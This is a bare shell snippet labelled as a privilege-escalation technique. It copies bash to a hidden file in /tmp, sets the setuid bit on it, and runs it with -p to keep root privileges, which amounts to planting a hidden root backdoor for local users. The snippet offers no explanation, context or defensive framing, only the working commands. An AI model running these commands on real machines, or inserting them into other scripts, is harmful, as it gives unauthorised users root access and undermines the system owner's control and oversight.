# privilege-escalation: the setuid bit on a copy of bash
cp /bin/bash /tmp/.sysbash
chmod 4755 /tmp/.sysbash
/tmp/.sysbash -p
